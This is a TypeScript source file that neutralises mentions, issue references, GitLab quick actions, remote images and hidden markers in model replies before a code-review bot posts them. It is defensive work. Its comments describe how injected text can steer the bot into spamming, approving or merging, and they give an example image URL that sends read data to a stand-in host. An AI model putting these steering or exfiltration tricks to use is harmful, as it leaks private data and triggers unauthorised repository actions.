/**
 * What a code-host comment may say, when its text is model output that payload text can
 * steer. Five things in it would act instead of being read:
 * - @mentions: every `@name`, `@org/team`, `@all` notifies someone (one event could ping
 *   hundreds of people). Unless `delivery.codehost.allow_mentions` is true, each is
 *   neutralised by a zero-width space after the `@` (U+200B): it still reads `@alice`, but
 *   neither GitHub nor GitLab links or notifies it. It is read as rendered: `&#64;bob`,
 *   `&commat;bob`, `@&#98;ob` and `@\_bob` are mentions too.
 * - Issue, merge request, epic and commit references (`#12`, `GH-12`, `owner/repo#12`,
 *   `!12`, `&12`, `owner/repo@sha`): each adds a "mentioned this" cross-reference to what it
 *   names, in any repository, so a steered reply could spam backlinks. Same switch, same
 *   space after the sigil; which forms, and why URLs stay links: references.ts.
 * - Quick actions: GitLab runs a line starting with `/approve`, `/merge`, `/label` … in a
 *   note as a command by the note's author, the bot (ChatOps bots on GitHub read such lines
 *   too). Such a line gets a zero-width space before its `/`, always: outside code, and
 *   wherever GitLab's own scan finds one, which is not CommonMark (a `~~~` or unclosed fence
 *   shields nothing there, and it deletes `\r` first; references.ts gitlabCommandStarts).
 * - Remote images (`![](url)`, `<img src>`): fetched when the comment is shown, so a URL
 *   carrying data would leak it unclicked. Made links, always (neutraliseImages).
 * - hookagent's own hidden markers (`<!-- hookagent:…`, `<!-- hookagent-reviewed:…`): a
 *   quoted one would tell the next run which comment is its own or which commit it last
 *   reviewed. Quoted ones become `<!-- (quoted) hookagent…`, always.
 * Code (fenced blocks and inline spans) is left exactly as written: mentions and references
 * there are never live, and `@Override` or `@dataclass` must stay copyable. So are URLs the
 * host links whole. Inline, the line is read left to right as CommonMark does: an autolink
 * or HTML tag that starts first wins over a backtick inside it, so `<https://x/`>` opens no
 * code span.
 */
import type { Config } from '../config/types';
import { BREAK, breakMentions, breakReferences, gitlabCommandStarts, type Reading } from './references';

export const MENTION_BREAK = BREAK;
/**
 * A fence as CommonMark (GitHub's and GitLab's Markdown) reads it: at most 3 spaces of
 * indentation, and a backtick fence's info string holds no backtick. "```x``` text" is a
 * paragraph starting with a code span and "    ```" an indented code line: taking either
 * for a fence would leave the mentions of every following line live.
 */
const FENCE_OPEN = /^ {0,3}(`{3,}(?=[^`]*$)|~{3,})/;
const FENCE_CLOSE = /^ {0,3}(`{3,}|~{3,})[ \t]*$/;
/** A line that opens an HTML block: Markdown (fences, code spans) is not read in it until a blank line. */
const HTML_BLOCK = /^ {0,3}<(?:!--|\/?[A-Za-z][A-Za-z0-9-]*(?:[\s/>]|$))/;
/** Autolinks and raw HTML (open and closing tags, comments) at a `<`, as CommonMark defines them (one line). */
const INLINE_HTML = /<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9.-]+|[A-Za-z][A-Za-z0-9-]*(?:\s+[A-Za-z_:][\w.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?)*\s*\/?|\/[A-Za-z][A-Za-z0-9-]*\s*|!--[^]*?--)>/y;
/** A quick action: `/` and a letter at the start of a line (up to 3 spaces in). */
const QUICK_ACTION = /^( {0,3})\/(?=[A-Za-z])/;
/** A hookagent marker comment, however spaced or cased. */
const MARKER = /<!--(\s*)hookagent/gi;

/** The length of the backtick run at `at`, and where its closing run of the same length ends (-1: none). */
function codeSpanEnd(line: string, at: number): { run: number; end: number } {
  let run = 0;
  while (line[at + run] === '`') run += 1;
  for (let i = at + run; i < line.length;) {
    if (line[i] !== '`') {
      i += 1;
      continue;
    }
    let close = 0;
    while (line[i + close] === '`') close += 1;
    if (close === run) return { run, end: i + close };
    i += close;
  }
  return { run, end: -1 };
}

/** One line outside fences: text parts through `onText`, tags and autolinks through `onTag`, code spans (unless `inHtml`) kept. */
function mapLine(line: string, inHtml: boolean, onText: (text: string) => string, onTag: (tag: string) => string = (tag) => tag): string {
  let out = '';
  let text = '';
  for (let i = 0; i < line.length;) {
    const c = line[i];
    if (c === '\\' && i + 1 < line.length) {
      text += line.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (c === '<') {
      INLINE_HTML.lastIndex = i;
      const tag = INLINE_HTML.exec(line);
      if (tag) {
        out += onText(text) + onTag(tag[0]);
        text = '';
        i += tag[0].length;
        continue;
      }
    }
    if (c === '`' && !inHtml) {
      const { run, end } = codeSpanEnd(line, i);
      if (end > 0) {
        out += onText(text) + line.slice(i, end);
        text = '';
        i = end;
      } else {
        // A run that closes nothing is literal text.
        text += line.slice(i, i + run);
        i += run;
      }
      continue;
    }
    text += c;
    i += 1;
  }
  return out + onText(text);
}

/** `breaks` over the text parts outside code, in order: a paragraph's open brackets decide which URLs are links. */
function mapText(text: string, breaks: (part: string, reading?: Reading) => string): string {
  const reading: Reading = { open: 0 };
  return mapOutsideCode(text, (line, inHtml) => {
    if (line.trim() === '') reading.open = 0;
    return mapLine(line, inHtml, (part) => breaks(part, inHtml ? undefined : reading));
  });
}

/** The text with every @mention outside code neutralised (pure; idempotent). */
export const neutraliseMentions = (text: string) => mapText(text, breakMentions);

/** The text with every issue, merge request, epic and commit reference outside code neutralised (pure; idempotent). */
export const neutraliseReferences = (text: string) => mapText(text, breakReferences);

/** Applies `change` to every line that is not inside a fenced code block. */
function mapOutsideCode(text: string, change: (line: string, inHtml: boolean) => string): string {
  let fence: string | undefined;
  let inHtml = false;
  return text.split('\n').map((line) => {
    if (fence !== undefined) {
      const closing = FENCE_CLOSE.exec(line)?.[1];
      if (closing && closing[0] === fence[0] && closing.length >= fence.length) fence = undefined;
      return line;
    }
    if (line.trim() === '') inHtml = false;
    else if (!inHtml && HTML_BLOCK.test(line)) inHtml = true;
    const marker = inHtml ? undefined : FENCE_OPEN.exec(line)?.[1];
    if (marker) {
      fence = marker;
      return line;
    }
    return change(line, inHtml);
  }).join('\n');
}

/**
 * Lines that would run as quick actions, made plain text: outside CommonMark code (up to 3
 * spaces in, for ChatOps bots), then wherever GitLab itself finds one (gitlabCommandStarts).
 */
export function neutraliseQuickActions(text: string): string {
  const outside = mapOutsideCode(text, (line) => line.replace(QUICK_ACTION, `$1${MENTION_BREAK}/`));
  const starts = gitlabCommandStarts(outside);
  if (starts.length === 0) return outside;
  let out = '';
  let done = 0;
  for (const at of starts) {
    out += `${outside.slice(done, at)}${MENTION_BREAK}`;
    done = at;
  }
  return out + outside.slice(done);
}


/** hookagent's hidden markers quoted in a reply, made inert (everywhere: an HTML comment in code is still read by the next run). */
export function neutraliseMarkers(text: string): string {
  return text.replace(MARKER, '<!--$1(quoted) hookagent');
}

/** `![alt](url)` (not escaped): an image; made a link by dropping the `!`. */
const IMAGE = /(?<!\\)!\[/g;
/** Tags that load a URL when the comment is shown: img, picture/source, video, audio, and the like. */
const LOADING_TAG = /<(?=(?:img|image|picture|source|video|audio|track|embed|object|iframe|svg|input)(?:[\s/>]|$))/gi;

/**
 * Remote images made links (outside code, always): GitHub and GitLab fetch an image when
 * the comment is shown, so a reply steered into `![](https://x.example/?q=<data>)` or
 * `<img src=…>` would send what the bot read to that server without anyone clicking.
 * Markdown images become plain links (`[alt](url)`); loading HTML tags are shown as text.
 */
export function neutraliseImages(text: string): string {
  // In text too: a tag split over lines is not one the line scanner recognises, and CommonMark still renders it.
  return mapOutsideCode(text, (line, inHtml) => mapLine(line, inHtml, (part) => part.replace(IMAGE, '[').replace(LOADING_TAG, '&lt;'), (tag) => tag.replace(LOADING_TAG, '&lt;')));
}

/** A type-1 HTML block (CommonMark): it runs until its closing tag, blank lines included. */
const RAW_BLOCK = /^ {0,3}<(pre|script|style|textarea)(?:[\s>]|$)/i;

/**
 * What a reply must be followed by so that it cannot swallow what hookagent writes after it
 * in the same comment (the findings notes, the "could not read the diff" warning, the
 * footer): an open fence is closed; an unclosed `<!--` (it hides everything up to the
 * footer's first `-->`), `<script>`/`<style>`/`<pre>`/`<textarea>` and `<details>` (which
 * would fold it away) get their closing tag. Closers are invisible when nothing was open.
 */
export function replyClosers(text: string): string {
  let fence: string | undefined;
  let inHtml = false;
  let comment = false;
  let raw: string | undefined;
  let details = 0;
  for (const line of text.split('\n')) {
    if (fence !== undefined) {
      const closing = FENCE_CLOSE.exec(line)?.[1];
      if (closing && closing[0] === fence[0] && closing.length >= fence.length) fence = undefined;
      continue;
    }
    if (comment) {
      if (line.includes('-->')) comment = false;
      continue;
    }
    if (raw === undefined) {
      if (line.trim() === '') inHtml = false;
      else if (!inHtml && HTML_BLOCK.test(line)) inHtml = true;
      const marker = inHtml ? undefined : FENCE_OPEN.exec(line)?.[1];
      if (marker) {
        fence = marker;
        continue;
      }
    }
    // Raw HTML reaches the page as written: a `<!--` there without its `-->` comments out the rest.
    const opened = line.lastIndexOf('<!--');
    if ((inHtml || raw) && opened >= 0 && !line.includes('-->', opened + 4)) comment = true;
    if (inHtml) raw ??= RAW_BLOCK.exec(line)?.[1]?.toLowerCase();
    if (raw && new RegExp(`</${raw}\\s*>`, 'i').test(line)) raw = undefined;
    details += (line.match(/<details(?=[\s>])/gi) ?? []).length - (line.match(/<\/details\s*>/gi) ?? []).length;
  }
  const fenceCloser = fence === undefined ? '' : `\n${fence[0]!.repeat(fence.length)}`;
  return `${fenceCloser}${comment ? '\n\n<!-- -->' : ''}${raw ? `\n</${raw}>` : ''}${'\n\n</details>'.repeat(Math.max(0, details))}`;
}

/** Model text posted where no setting allows mentions (inline findings): all of it made inert. */
export function inertText(text: string): string {
  return neutraliseReferences(neutraliseMentions(neutraliseImages(neutraliseMarkers(neutraliseQuickActions(text)))));
}

/** What a code-host comment says: the reply with quick actions, markers and remote images made inert, and its mentions and references unless the configuration allows them. */
export function commentText(reply: string, settings: Pick<Config['delivery'], 'codehost'> | undefined): string {
  const safe = neutraliseImages(neutraliseMarkers(neutraliseQuickActions(reply)));
  return settings?.codehost.allow_mentions === true ? safe : neutraliseReferences(neutraliseMentions(safe));
}
